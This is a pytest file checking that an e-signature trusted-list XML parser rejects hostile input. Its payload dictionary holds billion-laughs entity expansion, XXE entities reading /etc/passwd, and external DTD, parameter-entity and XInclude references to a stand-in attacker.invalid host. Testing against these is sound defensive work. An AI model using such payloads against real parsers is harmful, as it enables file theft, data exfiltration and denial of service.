"""Hostile XML never gets past the trusted-list parser: DTDs, entities, XInclude, external refs."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from esig.errors import TrustListError
from esig.trust import parse_trusted_list, verify_trusted_list
from tests.trust import _tlgen

_ROOT_OPEN = b"<TrustServiceStatusList "
_BODY = _tlgen.tl_xml().split(b"?>", 1)[1]  # without the XML declaration

HOSTILE = {
    "internal-dtd": b"<!DOCTYPE TrustServiceStatusList [<!ELEMENT a ANY>]>" + _BODY,
    "internal-entity": b'<!DOCTYPE x [<!ENTITY e "Evil TSP">]>'
    + _BODY.replace(b"Test TSP", b"&e;"),
    "billion-laughs": b'<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
    b'<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
    b'<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>'
    + _BODY.replace(b"Test TSP", b"&h;"),
    "external-entity": b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    + _BODY.replace(b"Test TSP", b"&xxe;"),
    "external-dtd": b'<!DOCTYPE x SYSTEM "http://attacker.invalid/evil.dtd">' + _BODY,
    "parameter-entity": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>'
    + _BODY,
    "xinclude": _BODY.replace(
        b"<TSPTradeName>",
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
        b'parse="text"/><TSPTradeName>',
    ),
    "xinclude-2003": _BODY.replace(
        b"<TSPTradeName>",
        b'<xi:include xmlns:xi="http://www.w3.org/2003/XInclude" href="http://attacker.invalid/"/>'
        b"<TSPTradeName>",
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_list_is_refused(name: str) -> None:
    with pytest.raises(TrustListError):
        parse_trusted_list(HOSTILE[name])


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_list_is_refused_by_the_verifier(name: str, signer) -> None:  # type: ignore[no-untyped-def]
    _, cert = signer
    with pytest.raises(TrustListError):
        verify_trusted_list(
            HOSTILE[name],
            signing_certificates=[_tlgen.der(cert)],
            validation_time=datetime(2026, 6, 1, tzinfo=UTC),
        )


def test_the_unmodified_body_parses() -> None:
    """Control: the hostile inputs differ from a valid list only by the attack."""
    assert parse_trusted_list(_BODY).providers[0].names[0].text == "Test TSP"


def test_oversized_input_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    from esig.trust import _xml

    monkeypatch.setattr(_xml, "MAX_LIST_BYTES", 1000)
    with pytest.raises(TrustListError, match="larger than 1000 bytes"):
        parse_trusted_list(_BODY)


def _attack_files(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file() and p.suffix in {".xml", ""})


@pytest.mark.corpus
def test_corpus_dtd_attacks_fail_closed(corpus: Path) -> None:
    """Every input of the RUB DTD-attack suite and the defusedxml samples: TrustListError, fast."""
    files = _attack_files(corpus / "attacks/xml/rub-dtd-attacks") + _attack_files(
        corpus / "security/xml/pyhanko-bad-xml"
    )
    assert len(files) >= 100
    start = time.monotonic()
    for path in files:
        with pytest.raises(TrustListError):
            parse_trusted_list(path.read_bytes())
    assert time.monotonic() - start < 20
